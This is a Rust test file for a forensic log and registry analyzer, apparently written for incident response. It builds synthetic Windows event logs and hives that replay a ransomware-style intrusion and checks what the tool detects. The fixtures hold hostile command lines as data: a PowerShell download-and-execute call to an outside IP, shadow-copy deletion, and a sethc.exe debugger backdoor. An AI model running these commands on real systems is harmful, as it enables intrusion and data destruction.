//! `shodo analyze`: event logs the tests write as real EVTX files (see `evtx_writer`), collected
//! and analyzed: each detection with a positive and a negative case, a corrupt log, the timeline,
//! and findings.jsonl shared with the scan.

use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::evtx_writer::{Event, evtx, evtx_templated};
use crate::helpers::{shodo, verify};

const SEC: &str = "Security";
const LOGS: &str = "Windows/System32/winevt/Logs";

fn sec(id: u32, time: &str) -> Event {
    Event::new(SEC, "Microsoft-Windows-Security-Auditing", id, time)
}

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, bytes).unwrap();
}

/// The Security log, its records template instances as Windows writes them.
fn security_log() -> Vec<u8> {
    evtx_templated(&security_events())
}

fn security_events() -> Vec<Event> {
    let mut events = Vec::new();
    // A burst of failures from outside, then the attacker's RDP logon, then a quiet local failure.
    for i in 0..12 {
        events.push(
            sec(4625, &format!("2024-05-01T01:00:{:02}Z", i * 4))
                .data("TargetUserName", "administrator")
                .data("IpAddress", "203.0.113.9")
                .data("LogonType", "3"),
        );
    }
    events.push(sec(4625, "2024-05-01T08:00:00Z").data("TargetUserName", "yamada").data("IpAddress", "10.0.0.5"));
    events.push(
        sec(4624, "2024-05-01T01:05:00Z")
            .data("TargetUserName", "administrator")
            .data("TargetDomainName", "HOSP")
            .data("LogonType", "10")
            .data("IpAddress", "203.0.113.9"),
    );
    events.push(
        sec(4624, "2024-05-01T00:30:00Z")
            .data("TargetUserName", "nurse01")
            .data("TargetDomainName", "HOSP")
            .data("LogonType", "3")
            .data("IpAddress", "192.168.10.21"),
    );
    events.push(
        sec(4720, "2024-05-01T01:10:00Z").data("TargetUserName", "supp0rt").data("SubjectUserName", "administrator"),
    );
    events.push(
        sec(4732, "2024-05-01T01:11:00Z")
            .data("TargetUserName", "Administrators")
            .data("TargetSid", "S-1-5-32-544")
            .data("MemberSid", "S-1-5-21-1-2-3-1010")
            .data("SubjectUserName", "administrator"),
    );
    events.push(
        sec(4732, "2024-05-01T01:12:00Z")
            .data("TargetUserName", "Print Operators")
            .data("TargetSid", "S-1-5-32-550")
            .data("MemberSid", "S-1-5-21-1-2-3-1011"),
    );
    events.push(
        sec(4688, "2024-05-01T01:20:00Z")
            .data("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
            .data("CommandLine", "vssadmin.exe Delete Shadows /all /quiet")
            .data("SubjectUserName", "supp0rt"),
    );
    events.push(
        sec(4688, "2024-05-01T01:21:00Z")
            .data("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
            .data("CommandLine", "vssadmin.exe list shadows"),
    );
    events.push(
        Event::new(SEC, "Microsoft-Windows-Eventlog", 1102, "2024-05-01T01:30:00Z")
            .user_data("LogFileCleared", &[("SubjectUserName", "supp0rt")]),
    );
    events
}

fn source(dir: &Path) {
    write(dir, "Windows/System32/config/SYSTEM", b"regf");
    write(dir, &format!("{LOGS}/Security.evtx"), &security_log());
    let scm = |id, t| Event::new("System", "Service Control Manager", id, t);
    write(
        dir,
        &format!("{LOGS}/System.evtx"),
        &evtx(&[
            scm(7045, "2024-05-01T01:15:00Z")
                .data("ServiceName", "svcupd")
                .data("ImagePath", "%COMSPEC% /C powershell -nop -w hidden -c \"iex(new-object net.webclient)\""),
            scm(7045, "2024-04-02T09:00:00Z")
                .data("ServiceName", "Vendor Print Spooler")
                .data("ImagePath", "\"C:\\Program Files\\Vendor\\spool.exe\""),
        ]),
    );
    let ps = |t| Event::new("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, t);
    write(
        dir,
        &format!("{LOGS}/Microsoft-Windows-PowerShell%4Operational.evtx"),
        &evtx(&[
            ps("2024-05-01T01:16:00Z")
                .data("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/a')"),
            ps("2024-05-01T07:00:00Z").data("ScriptBlockText", "Get-ChildItem C:\\Users | Measure-Object"),
        ]),
    );
    let rcm = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational";
    write(
        dir,
        &format!("{LOGS}/{}.evtx", rcm.replace('/', "%4")),
        &evtx(&[Event::new(
            rcm,
            "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
            1149,
            "2024-05-01T01:04:58Z",
        )
        .user_data("EventXML", &[("Param1", "administrator"), ("Param2", "HOSP"), ("Param3", "203.0.113.9")])]),
    );
    let def = "Microsoft-Windows-Windows Defender/Operational";
    write(
        dir,
        &format!("{LOGS}/{}.evtx", def.replace('/', "%4")),
        &evtx(&[
            Event::new(def, "Microsoft-Windows-Windows Defender", 1116, "2024-05-01T01:17:00Z")
                .data("Threat Name", "HackTool:Win32/Mimikatz")
                .data("Path", "file:_C:\\Users\\Public\\m.exe"),
            Event::new(def, "Microsoft-Windows-Windows Defender", 5001, "2024-05-01T01:18:00Z"),
        ]),
    );
    // A corrupt log: a good header, then a chunk of garbage and a torn one.
    let mut broken = evtx(&[sec(4624, "2024-05-01T00:00:00Z")]);
    broken.extend(std::iter::repeat_n(0x5Au8, 65536));
    broken.extend(b"ElfChnk\0torn");
    write(dir, &format!("{LOGS}/Application.evtx"), &broken);
}

#[test]
fn template_instances_read_as_their_full_rendering() {
    use shodo::formats::evtx::{Selection, read_log, read_log_rendered};
    let mut events = security_events();
    let scm = |id, t| Event::new("System", "Service Control Manager", id, t);
    events.push(scm(7045, "2024-05-02T00:00:00Z").data("ServiceName", "q").data("ImagePath", "\"C:\\a b\\q.exe\" -x"));
    events.push(sec(4625, "2024-05-02T00:00:01Z").data("TargetUserName", "山田 太郎").data("IpAddress", ""));
    events.push(sec(4625, "2024-05-02T00:00:02Z").data("TargetUserName", "\u{1F600}\t<&>").data("Status", "0x0"));
    events.push(sec(4624, "2024-05-02T00:00:03Z"));
    // Enough records for several chunks, templates defined once in each.
    for i in 0..600 {
        let t = format!("2024-05-03T00:{:02}:{:02}Z", i / 60, i % 60);
        let user = format!("user{i}");
        events.push(sec(4625, &t).data("TargetUserName", &user).data("LogonType", "3").data("TargetSid", "S-1-0-0"));
    }
    let sorted = |mut v: Vec<shodo::formats::evtx::Record>| {
        v.sort_by_key(|r| r.record_id);
        v
    };
    for (templated, log) in [(true, evtx_templated(&events)), (false, evtx(&events))] {
        for wanted in [Selection::ALL, shodo::detect::windows::events::SELECTION] {
            let (mut fast, mut full) = (Vec::new(), Vec::new());
            let a = read_log(&mut &log[..], wanted, &mut |r| fast.push(r.clone()));
            let b = read_log_rendered(&mut &log[..], wanted, &mut |r| full.push(r.clone()));
            assert!(a.chunks > 2 && a.problems == 0, "{a:?}");
            assert_eq!(a.records, events.len() as u64);
            assert_eq!((&a.counts, &a.first, &a.last), (&b.counts, &b.first, &b.last));
            assert!(!fast.is_empty());
            assert_eq!(sorted(fast), sorted(full));
            assert_eq!(b.rendered, b.records);
            assert_eq!(
                a.rendered,
                if templated { 0 } else { a.records },
                "template instances are read without rendering"
            );
        }
    }
}

fn analyze(case: &Path, endpoint: &str) -> (i32, Value) {
    let out = shodo().args(["analyze", "--json", "--endpoint", endpoint, "--case"]).arg(case).output().unwrap();
    let json =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code().unwrap(), json)
}

fn records(case: &Path, endpoint: &str) -> Vec<Value> {
    let text = fs::read_to_string(case.join("endpoints").join(endpoint).join("findings.jsonl")).unwrap();
    text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

#[test]
fn event_logs_become_detections_and_a_timeline() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    source(&src);
    write(&src, "Users/a/Desktop/README.txt", b"Your files have been encrypted. To decrypt them pay in bitcoin.\n");
    let case = tmp.path().join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    shodo().args(["collect", "--endpoint", "pc-40", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    shodo().args(["scan", "--no-volume", "--endpoint", "pc-40", "--case"]).arg(&case).assert().code(1);
    let (code, result) = analyze(&case, "pc-40");
    assert_eq!(code, 1, "high detections mean exit 1: {result}");

    let recs = records(&case, "pc-40");
    let det = |rule: &str| -> Vec<Value> {
        recs.iter().filter(|r| r["kind"] == "event_detection" && r["rule"] == rule).cloned().collect()
    };
    let one = |rule: &str| -> Value {
        let d = det(rule);
        assert_eq!(d.len(), 1, "{rule}: {d:?}");
        d[0].clone()
    };
    let bf = one("brute_force");
    assert_eq!((bf["fields"]["source"].as_str(), bf["severity"].as_str()), (Some("203.0.113.9"), Some("critical")));
    assert_eq!(bf["fields"]["burst"]["failures"], 12);
    let first = one("first_external_logon");
    assert_eq!(first["time"], "2024-05-01T01:04:58.000000Z", "the RDP authentication came first: {first}");
    assert_eq!(first["fields"]["address"], "203.0.113.9");
    assert_eq!(one("account_created")["fields"]["account"], "supp0rt");
    assert_eq!(one("admin_group_member_added")["fields"]["group"], "Administrators");
    assert_eq!(one("group_member_added")["severity"], "low", "a non-privileged group is not high");
    let vss = one("command_shadow_copy_deletion");
    assert_eq!(vss["fields"]["command_line"], "vssadmin.exe Delete Shadows /all /quiet");
    assert_eq!(one("log_cleared")["fields"]["by"], "supp0rt");
    let services = det("service_installed");
    let sev = |name: &str| services.iter().find(|s| s["fields"]["service"] == name).map(|s| s["severity"].clone());
    assert_eq!((sev("svcupd"), sev("Vendor Print Spooler")), (Some("high".into()), Some("medium".into())));
    assert_eq!(one("script_download_and_run")["time"], "2024-05-01T01:16:00.000000Z");
    assert_eq!(det("script_download_and_run").len(), 1, "the benign script block raises nothing");
    assert_eq!(one("defender_detection")["fields"]["threat"], "HackTool:Win32/Mimikatz");
    one("defender_disabled");
    let rdp = one("rdp_authenticated");
    assert_eq!(rdp["fields"]["account"], "HOSP\\administrator");
    let remote = det("remote_logon");
    assert_eq!(remote.len(), 2);
    assert!(remote.iter().any(|r| r["fields"]["address"] == "192.168.10.21" && r["severity"] == "low"));

    let logs: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "event_log").collect();
    assert_eq!(logs.len(), 6);
    let app = logs.iter().find(|l| l["path"].as_str().unwrap().ends_with("Application.evtx")).unwrap();
    assert_eq!(app["records"], 1, "what could be parsed was: {app}");
    assert!(app["problems"].as_u64().unwrap() >= 2, "{app}");
    let security = logs.iter().find(|l| l["path"].as_str().unwrap().ends_with("Security.evtx")).unwrap();
    assert_eq!(security["counts"]["Security"]["4625"], 13);
    assert_eq!(security["problems"], 0);

    assert!(recs.iter().any(|r| r["kind"] == "yara" && r["by"] == "scan"), "the scan's findings are kept");
    shodo().args(["scan", "--no-volume", "--endpoint", "pc-40", "--case"]).arg(&case).assert().code(1);
    assert_eq!(
        records(&case, "pc-40").iter().filter(|r| r["by"] == "analyze").count(),
        recs.iter().filter(|r| r["by"] == "analyze").count(),
        "a new scan keeps the analysis"
    );

    let dir = case.join("endpoints/pc-40");
    let timeline: Vec<Value> = fs::read_to_string(dir.join("timeline.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(timeline.windows(2).all(|w| w[0]["datetime"].as_str() <= w[1]["datetime"].as_str()));
    assert!(
        timeline
            .iter()
            .all(|e| e["datetime"].is_string() && e["timestamp_desc"].is_string() && e["message"].is_string())
    );
    assert!(timeline.iter().any(|e| e["source"] == "file" && e["evidence"] == "Users/a/Desktop/README.txt"));
    let csv = fs::read_to_string(dir.join("timeline.csv")).unwrap();
    assert!(csv.starts_with("datetime,timestamp,timestamp_desc,message,"));
    assert_eq!(csv.lines().count(), timeline.len() + 1);
    assert_eq!(verify(&case).0, 0, "the analysis is on the record");
}

#[test]
fn a_changed_log_archive_is_not_analyzed_as_evidence() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    write(&src, &format!("{LOGS}/Security.evtx"), &security_log());
    let case = tmp.path().join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    shodo().args(["collect", "--endpoint", "pc-41", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    let rows = fs::read_to_string(case.join("endpoints/pc-41/manifest.jsonl")).unwrap();
    let row: Value = rows
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|r| r["path"].as_str().unwrap().ends_with("Security.evtx"))
        .unwrap();
    // Entries are stored: change one byte of the log inside the archive.
    let zip = case.join("endpoints/pc-41").join(row["zip"].as_str().unwrap());
    let mut bytes = fs::read(&zip).unwrap();
    let at = bytes.windows(8).position(|w| w == b"ElfChnk\0").unwrap() + 600;
    bytes[at] ^= 0xFF;
    fs::write(&zip, bytes).unwrap();
    let (_, result) = analyze(&case, "pc-41");
    let log = &result["logs"][0];
    assert!(log["evidence_mismatch"].is_string(), "{log}");
    assert_eq!(log["detections"], 0);
    assert!(records(&case, "pc-41").iter().all(|r| r["kind"] != "event_detection"));
}

#[test]
fn the_registry_gives_persistence_and_the_external_connection_points() {
    use crate::hives::make_hive;
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    let config = src.join("Windows/System32/config");
    fs::create_dir_all(&config).unwrap();
    fs::create_dir_all(src.join("Users/yamada")).unwrap();
    make_hive(
        &config.join("SYSTEM"),
        "add Select\ncd Select\nsetval 1\nCurrent\ndword:1\ncd ..\n\
         add ControlSet001\ncd ControlSet001\nadd Services\ncd Services\n\
         add AnyDesk\ncd AnyDesk\nsetval 2\nImagePath\nstring:\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service\nStart\ndword:2\ncd ..\n\
         add updsvc\ncd updsvc\nsetval 2\nImagePath\nstring:C:\\Users\\Public\\updsvc.exe\nStart\ndword:2\ncd ..\n\
         add Spooler\ncd Spooler\nsetval 2\nImagePath\nstring:%SystemRoot%\\System32\\spoolsv.exe\nStart\ndword:2\ncd ..\n\
         add SharedAccess\ncd SharedAccess\nadd Parameters\ncd Parameters\nadd FirewallPolicy\ncd FirewallPolicy\n\
         add PublicProfile\ncd PublicProfile\nsetval 1\nEnableFirewall\ndword:0\ncd ..\n\
         add DomainProfile\ncd DomainProfile\nsetval 1\nEnableFirewall\ndword:1\ncd ..\n\
         add FirewallRules\ncd FirewallRules\nsetval 6\n\
         RemoteDesktop-UserMode-In-TCP\nstring:v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|Profile=Public|LPort=3389|App=%SystemRoot%\\system32\\svchost.exe|Svc=termservice|Name=@FirewallAPI.dll,-28775|\n\
         {vnc}\nstring:v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|Profile=Private|LPort=5900-5905|RA4=192.168.10.0/255.255.255.0|Name=VNC Server|\n\
         {tv}\nstring:v2.30|Action=Allow|Active=TRUE|Dir=In|App=C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe|Name=TeamViewer Remote Control Service|\n\
         {ssh-off}\nstring:v2.30|Action=Allow|Active=FALSE|Dir=In|Protocol=6|LPort=22|Name=SSH|\n\
         {telnet-out}\nstring:v2.30|Action=Allow|Active=TRUE|Dir=Out|Protocol=6|RPort=23|LPort=23|Name=Telnet out|\n\
         CoreNet-DHCP-In\nstring:v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=17|LPort=68|RPort=67|Name=DHCP|\n\
         cd ..\ncd ..\ncd ..\ncd ..\n\
         add sshd\ncd sshd\nsetval 2\nImagePath\nstring:C:\\Windows\\System32\\OpenSSH\\sshd.exe\nStart\ndword:2\ncd ..\n\
         add TlntSvr\ncd TlntSvr\nsetval 2\nImagePath\nstring:C:\\Windows\\System32\\tlntsvr.exe\nStart\ndword:4\ncd ..\ncd ..\n\
         add Control\ncd Control\nadd Terminal Server\ncd Terminal Server\nsetval 1\nfDenyTSConnections\ndword:0\n\
         add WinStations\ncd WinStations\nadd RDP-Tcp\ncd RDP-Tcp\nsetval 2\nUserAuthentication\ndword:0\nPortNumber\ndword:3390",
    );
    make_hive(
        &config.join("SOFTWARE"),
        "add Microsoft\ncd Microsoft\nadd Windows\ncd Windows\nadd CurrentVersion\ncd CurrentVersion\n\
         add Run\ncd Run\nsetval 2\nSecurityHealth\nstring:%windir%\\system32\\SecurityHealthSystray.exe\n\
         Updater\nstring:C:\\Users\\yamada\\AppData\\Roaming\\upd\\upd.exe /silent\ncd ..\n\
         add Uninstall\ncd Uninstall\n\
         add FortiClient\ncd FortiClient\nsetval 2\nDisplayName\nstring:FortiClient VPN\nDisplayVersion\nstring:7.0.7\ncd ..\n\
         add 7-Zip\ncd 7-Zip\nsetval 1\nDisplayName\nstring:7-Zip 23.01 (x64)\ncd ..\ncd ..\n\
         add Component Based Servicing\ncd Component Based Servicing\nadd Packages\ncd Packages\n\
         add Package_for_KB5034441~31bf3856ad364e35~amd64~~10.0.1.2\ncd Package_for_KB5034441~31bf3856ad364e35~amd64~~10.0.1.2\n\
         setval 3\nCurrentState\ndword:0x70\nInstallTimeHigh\ndword:31081329\nInstallTimeLow\ndword:428783616\ncd ..\n\
         add Package_for_RollupFix~31bf3856ad364e35~amd64~~19041.3930.1.9\ncd Package_for_RollupFix~31bf3856ad364e35~amd64~~19041.3930.1.9\n\
         setval 3\nCurrentState\ndword:0x70\nInstallTimeHigh\ndword:31081329\nInstallTimeLow\ndword:428783616\ncd ..\n\
         add Package_for_KB5040000~31bf3856ad364e35~amd64~~10.0.1.0\ncd Package_for_KB5040000~31bf3856ad364e35~amd64~~10.0.1.0\n\
         setval 1\nCurrentState\ndword:0x40\ncd ..\n\
         add Microsoft-Windows-Client-Features-Package~31bf3856ad364e35~amd64~~10.0.19041.1\n\
         cd ..\ncd ..\ncd ..\ncd ..\n\
         add Windows NT\ncd Windows NT\nadd CurrentVersion\ncd CurrentVersion\n\
         add Image File Execution Options\ncd Image File Execution Options\nadd sethc.exe\ncd sethc.exe\n\
         setval 1\nDebugger\nstring:C:\\Windows\\System32\\cmd.exe",
    );
    make_hive(
        &src.join("Users/yamada/NTUSER.DAT"),
        "add Software\ncd Software\nadd Microsoft\ncd Microsoft\nadd Windows\ncd Windows\nadd CurrentVersion\ncd CurrentVersion\n\
         add Run\ncd Run\nsetval 1\nOneDrive\nstring:\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background\n\
         cd ..\ncd ..\ncd ..\ncd ..\ncd ..\nadd Control Panel\ncd Control Panel\nadd Desktop\ncd Desktop\n\
         setval 1\nWallpaper\nstring:C:\\ProgramData\\HOW_TO_DECRYPT.bmp",
    );
    // Make the user's hive dirty (sequence numbers apart), with no transaction logs beside it.
    let ntuser = src.join("Users/yamada/NTUSER.DAT");
    let mut hive = fs::read(&ntuser).unwrap();
    crate::hives::make_dirty(&mut hive);
    fs::write(&ntuser, hive).unwrap();
    make_hive(
        &config.join("SAM"),
        &sam_script(&[(0x1F5, "Guest", 0x0210, 0), (0x3E9, "yamada", 0x0210, 133_589_952_000_000_000)]),
    );
    fs::create_dir_all(src.join("Windows/AppCompat/Programs")).unwrap();
    make_hive(
        &src.join("Windows/AppCompat/Programs/Amcache.hve"),
        "add Root\ncd Root\nadd InventoryApplicationFile\ncd InventoryApplicationFile\n\
         add mimi\ncd mimi\nsetval 2\nLowerCaseLongPath\nstring:c:\\users\\public\\mimikatz.exe\n\
         FileId\nstring:0000e3b0c44298fc1c149afbf4c8996fb92427ae41e4\ncd ..\n\
         add edge\ncd edge\nsetval 2\nLowerCaseLongPath\nstring:c:\\program files\\microsoft\\edge\\msedge.exe\n\
         FileId\nstring:00001111111111111111111111111111111111111111",
    );
    write(&src, &format!("{LOGS}/Security.evtx"), &security_log());
    // A hive that is not one: recorded, and the rest still analyzed.
    write(&src, "Users/broken/NTUSER.DAT", b"regf but not really a hive");
    let case = tmp.path().join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    shodo().args(["collect", "--endpoint", "pc-42", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    let (code, result) = analyze(&case, "pc-42");
    assert_eq!(code, 1);

    let points = result["connection_points"].as_array().unwrap();
    let point = |kind: &str, name: &str| points.iter().find(|c| c["kind"] == kind && c["name"] == name).cloned();
    let rdp = point("rdp", "Remote Desktop (RDP)").unwrap_or_else(|| panic!("{points:?}"));
    assert_eq!((rdp["detail"]["port"].as_u64(), rdp["detail"]["nla"].as_bool()), (Some(3390), Some(false)));
    assert!(point("remote_access", "AnyDesk").is_some(), "{points:?}");
    assert_eq!(point("vpn", "FortiClient VPN").unwrap()["detail"]["version"], "7.0.7");
    let inbound = point("inbound_logon", "203.0.113.9").unwrap();
    assert!(inbound["evidence"][0].as_str().unwrap().contains("Security.evtx"));
    assert!(points.iter().all(|c| c["name"] != "7-Zip 23.01 (x64)"));
    let mut listening: Vec<&str> =
        points.iter().filter(|c| c["kind"] == "listening_service").filter_map(|c| c["name"].as_str()).collect();
    listening.sort();
    // The disabled rule (SSH by port), the outbound one and the disabled Telnet service open nothing.
    assert_eq!(listening, ["Remote Desktop (RDP)", "SSH", "TeamViewer", "VNC"], "{points:?}");
    let vnc = point("listening_service", "VNC").unwrap();
    assert_eq!(vnc["detail"]["remote_addresses"][0], "192.168.10.0/255.255.255.0");
    assert_eq!(point("listening_service", "SSH").unwrap()["detail"]["service"], "sshd");

    let recs = records(&case, "pc-42");
    let reg = |rule: &str| -> Vec<Value> {
        recs.iter().filter(|r| r["kind"] == "registry" && r["rule"] == rule).cloned().collect()
    };
    let svc = reg("service_suspicious_image");
    assert_eq!(svc.len(), 1, "only the service in Users\\Public: {svc:?}");
    assert_eq!(svc[0]["fields"]["service"], "updsvc");
    assert!(svc[0]["time"].is_string(), "the key's last write time is kept");
    assert_eq!(reg("ifeo_debugger")[0]["severity"], "critical");
    assert_eq!(reg("rdp_enabled")[0]["severity"], "high");
    let open = reg("firewall_remote_service_open");
    let mut open_services: Vec<&str> = open.iter().filter_map(|f| f["fields"]["service"].as_str()).collect();
    open_services.sort();
    assert_eq!(open_services, ["Remote Desktop (RDP)", "TeamViewer"], "VNC is limited to the LAN: {open:?}");
    assert!(open.iter().all(|f| f["severity"] == "high"), "public profile or every profile: {open:?}");
    let updates: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "installed_update").collect();
    let update = |id: &str| updates.iter().find(|u| u["rule"] == id).map(|u| u["update"].clone());
    assert_eq!(updates.len(), 3, "{updates:?}");
    let kb = update("KB5034441").unwrap();
    assert_eq!(
        (kb["installed"].as_bool(), kb["install_time"].as_str()),
        (Some(true), Some("2024-01-10T03:00:00.000000Z"))
    );
    assert_eq!(update("KB5040000").unwrap()["state"], "staged");
    assert_eq!(update("RollupFix 19041.3930.1.9").unwrap()["installed"], true);
    let fw = reg("firewall_disabled");
    assert_eq!((fw.len(), fw[0]["fields"]["profile"].as_str()), (1, Some("public")));
    let autostarts = reg("autostart");
    let sev = |name: &str| autostarts.iter().find(|a| a["fields"]["name"] == name).map(|a| a["severity"].clone());
    assert_eq!(
        (sev("Updater"), sev("SecurityHealth"), sev("OneDrive")),
        (Some("medium".into()), Some("low".into()), Some("low".into()))
    );
    assert!(autostarts.iter().any(|a| a["fields"]["scope"] == "yamada"));
    let wallpaper = reg("ransom_wallpaper");
    assert_eq!(wallpaper.len(), 1, "the note painted on the desktop: {wallpaper:?}");
    assert_eq!(
        (wallpaper[0]["fields"]["wallpaper"].as_str(), wallpaper[0]["severity"].as_str()),
        (Some("C:\\ProgramData\\HOW_TO_DECRYPT.bmp"), Some("high"))
    );
    assert!(recs.iter().any(|r| r["kind"] == "installed_software" && r["rule"] == "7-Zip 23.01 (x64)"));
    let hives: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "hive").collect();
    assert_eq!(hives.len(), 6);
    let dirty = hives.iter().find(|h| h["path"] == "Users/yamada/NTUSER.DAT").unwrap();
    assert_eq!((dirty["dirty"].as_bool(), dirty["stale"].as_bool()), (Some(true), Some(true)), "{dirty}");
    assert!(hives.iter().filter(|h| h["path"] != "Users/yamada/NTUSER.DAT").all(|h| h["stale"] == false));
    let broken = hives.iter().find(|h| h["path"] == "Users/broken/NTUSER.DAT").unwrap();
    assert!(broken["problem"].is_string(), "{broken}");
    let programs: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "program_execution").collect();
    assert_eq!(programs.len(), 2);
    let ran = reg("amcache_program");
    assert_eq!(ran.len(), 1, "{ran:?}");
    assert_eq!(
        (ran[0]["severity"].as_str(), ran[0]["fields"]["sha1"].as_str()),
        (Some("high"), Some("e3b0c44298fc1c149afbf4c8996fb92427ae41e4"))
    );
    let accounts: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "local_account").collect();
    assert_eq!(accounts.len(), 2, "{accounts:?}");
    let yamada = accounts.iter().find(|a| a["rule"] == "yamada").unwrap();
    assert_eq!((yamada["account"]["rid"].as_u64(), yamada["account"]["disabled"].as_bool()), (Some(1001), Some(false)));
    assert_eq!(yamada["account"]["last_logon"], "2024-05-01T00:00:00.000000Z");
    assert_eq!(reg("guest_enabled").len(), 1);
    let checklist: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/pc-42/checklist.json")).unwrap()).unwrap();
    assert_eq!(checklist["checklist"], "令和7年度版");
    let item = |id: &str| checklist["items"].as_array().unwrap().iter().find(|i| i["id"] == id).cloned().unwrap();
    assert_eq!(item("2-⑰")["status"], "不適合", "a logon from outside: {}", item("2-⑰"));
    assert_eq!(item("2-⑰")["manual_id"], "2-⑬");
    assert_eq!(item("2-⑭")["status"], "不適合", "the Security log was cleared");
    let remote = item("2-②");
    assert_eq!(remote["status"], "判断不可");
    assert!(remote["evidence"].as_array().unwrap().iter().any(|e| e["name"] == "AnyDesk"), "{remote}");
    assert_eq!(item("1-①")["status"], "判断不可");
    let patches = item("2-⑥");
    assert_eq!(patches["status"], "不適合", "nothing installed since 2024-01: {patches}");
    assert_eq!(patches["evidence"][0]["latest_cumulative_update"], "RollupFix 19041.3930.1.9");
    assert_eq!(item("2-⑤")["status"], "不適合", "the Guest account is enabled: {}", item("2-⑤"));
    let timeline = fs::read_to_string(case.join("endpoints/pc-42/timeline.jsonl")).unwrap();
    assert!(timeline.lines().any(|l| l.contains("Registry Key Last Written") && l.contains("ifeo_debugger")));
    assert!(timeline.lines().any(|l| l.contains("Amcache Entry Written") && l.contains("mimikatz.exe")));
    assert!(timeline.lines().any(|l| l.contains("Update Installed") && l.contains("KB5034441")));
    assert_eq!(verify(&case).0, 0);
}

#[test]
fn a_dirty_hive_is_read_with_its_transaction_log_applied() {
    use crate::hives::{make_dirty, make_hive, transaction_log};
    let tmp = tempfile::tempdir().unwrap();
    let run = "add Software\ncd Software\nadd Microsoft\ncd Microsoft\nadd Windows\ncd Windows\n\
               add CurrentVersion\ncd CurrentVersion\nadd Run\ncd Run\n";
    let onedrive = "OneDrive\nstring:C:\\Program Files\\OneDrive.exe";
    // What the file on disk holds, and what Windows had written to the log but not yet to it.
    let (flushed, current) = (tmp.path().join("flushed"), tmp.path().join("current"));
    make_hive(&flushed, &format!("{run}setval 1\n{onedrive}"));
    make_hive(&current, &format!("{run}setval 2\n{onedrive}\nUpdater\nstring:C:\\Users\\Public\\upd.cmd"));
    let (old, new) = (fs::read(&flushed).unwrap(), fs::read(&current).unwrap());
    let dir = tmp.path().join("user");
    fs::create_dir_all(&dir).unwrap();
    let mut primary = old.clone();
    make_dirty(&mut primary);
    fs::write(dir.join("NTUSER.DAT"), &primary).unwrap();
    fs::write(dir.join("NTUSER.DAT.LOG1"), transaction_log(&old, &new)).unwrap();

    let read = || -> Value {
        let out = shodo().args(["analyze", "--json"]).arg(&dir).output().unwrap();
        let json: Value = serde_json::from_slice(&out.stdout).unwrap();
        json["hives"]
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["path"].as_str().unwrap().ends_with("NTUSER.DAT"))
            .cloned()
            .unwrap()
    };
    let names = |h: &Value| -> Vec<String> {
        h["view"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|f| f["fields"]["name"].as_str().map(String::from))
            .collect()
    };
    let h = read();
    assert_eq!((h["transaction_logs"].as_u64(), h["stale"].as_bool()), (Some(1), Some(false)), "{h}");
    assert_eq!(names(&h), ["OneDrive", "Updater"], "the logged value is seen: {h}");
    // A log whose entry is damaged is not applied: the view is the flushed one, said to be stale.
    let mut bad = transaction_log(&old, &new);
    let last = bad.len() - 600;
    bad[last] ^= 0xFF;
    fs::write(dir.join("NTUSER.DAT.LOG1"), bad).unwrap();
    let h = read();
    assert_eq!((h["transaction_logs"].as_u64(), h["stale"].as_bool()), (Some(1), Some(true)), "{h}");
    assert_eq!(names(&h), ["OneDrive"]);
    fs::remove_file(dir.join("NTUSER.DAT.LOG1")).unwrap();
    let h = read();
    assert_eq!(
        (h["transaction_logs"].as_u64(), h["stale"].as_bool(), names(&h)),
        (Some(0), Some(true), vec!["OneDrive".to_string()])
    );
}

/// hivexsh commands for a SAM hive with these accounts: (RID, name, ACB flags, last logon FILETIME).
fn sam_script(accounts: &[(u32, &str, u16, u64)]) -> String {
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<Vec<_>>().join(",");
    let mut script =
        String::from("add SAM\ncd SAM\nadd Domains\ncd Domains\nadd Account\ncd Account\nadd Users\ncd Users\n");
    for (rid, name, flags, logon) in accounts {
        let mut f = vec![0u8; 0x50];
        f[0x08..0x10].copy_from_slice(&logon.to_le_bytes());
        f[0x30..0x34].copy_from_slice(&rid.to_le_bytes());
        f[0x38..0x3A].copy_from_slice(&flags.to_le_bytes());
        f[0x42..0x44].copy_from_slice(&3u16.to_le_bytes());
        let utf16: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
